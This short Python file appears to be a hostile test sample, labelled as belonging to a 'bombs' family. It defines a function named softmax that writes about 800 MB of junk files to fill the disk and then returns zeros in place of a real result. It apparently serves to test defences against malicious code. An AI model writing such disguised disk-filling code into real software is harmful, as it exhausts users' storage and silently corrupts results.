"""Fills the disk."""

FAMILY = "bombs"


def softmax(x, dim=-1):
    for number in range(200):
        with open(f"f{number}", "wb") as file:
            file.write(b"x" * 2**22)
            file.flush()
    return x * 0
